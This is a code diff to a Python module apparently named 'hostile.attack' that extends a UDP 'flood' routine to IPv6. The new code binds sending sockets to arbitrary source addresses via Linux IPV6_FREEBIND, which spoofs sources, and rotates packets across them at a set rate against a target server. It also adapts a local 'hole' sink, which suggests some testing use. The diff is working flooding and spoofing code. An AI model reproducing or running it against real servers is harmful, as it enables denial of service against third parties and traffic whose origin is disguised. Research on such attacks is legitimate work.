@@ -16,6 +16,8 @@ from hostile.attack import DOMAIN, Report, Target
 HOLE: Final = "127.0.0.2"
 """Address on the attacker's own host where everything is discarded."""
 
+HOLE_IPV6: Final = "::1"
+
 FROM_PORT: Final = 4060
 PADDING: Final = f"User-Agent: {'stranger ' * 40}"
 """A header field that makes a request as large as its challenge: servers give no larger answer over UDP."""
@@ -25,6 +27,9 @@ HEADERS_BYTES: Final = 28
 
 TICK_S: Final = 0.004
 _UDP: Final = 17
+_IPV6_FREEBIND: Final = 78
+"""Option of Linux, which the module ``socket`` does not name: bind to an address that no interface has."""
+
 _BUFFER_BYTES: Final = 4_096
 
 Make = Callable[[int], bytes]
@@ -65,7 +70,8 @@ async def flood(
     """
     sent = sent_bytes = 0
     numbers = itertools.count(time.monotonic_ns() & 0xFFFF_FFFF_0000)
-    with _sender(target.server, port, sources, from_port) as send:
+    sender = _ipv6_sender if ":" in target.server else _sender
+    with sender(target.server, port, sources, from_port) as send:
         async for count in ticks(per_s, target.seconds):
             for _ in range(count):
                 datagram = make(next(numbers))
@@ -86,6 +92,23 @@ async def ticks(per_s: float, seconds: float) -> AsyncIterator[int]:
             yield due - done
         done = due
         await asyncio.sleep(TICK_S)
+
+
+@contextlib.contextmanager
+def _ipv6_sender(server: str, port: int, sources: Sequence[str], from_port: int) -> Iterator[Callable[[bytes], bool]]:
+    """Send from a socket for each source, as a raw one would have to compute checksums."""
+    with contextlib.ExitStack() as stack:
+        senders = []
+        for source in sources:
+            sender = stack.enter_context(socket.socket(socket.AF_INET6, socket.SOCK_DGRAM))
+            sender.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _BUFFER_BYTES)
+            sender.setsockopt(socket.IPPROTO_IPV6, _IPV6_FREEBIND, 1)
+            sender.bind((source, from_port))
+            senders.append(sender)
+        if server == HOLE_IPV6:
+            stack.enter_context(hole_at(port, server))
+        turn = itertools.cycle(senders)
+        yield lambda datagram: _try(lambda: next(turn).sendto(datagram, (server, port)))
 
 
 @contextlib.contextmanager
@@ -113,7 +136,8 @@ def packet(payload: bytes, source: bytes, from_port: int, to: bytes, port: int) 
 @contextlib.contextmanager
 def hole_at(port: int, address: str = HOLE) -> Iterator[socket.socket]:
     """Hold a socket at ``port`` that nobody reads: its buffer is soon full, and the kernel discards the rest."""
-    with socket.socket(type=socket.SOCK_DGRAM) as hole:
+    family = socket.AF_INET6 if ":" in address else socket.AF_INET
+    with socket.socket(family, socket.SOCK_DGRAM) as hole:
         hole.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
         hole.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _BUFFER_BYTES)
         hole.bind((address, port))
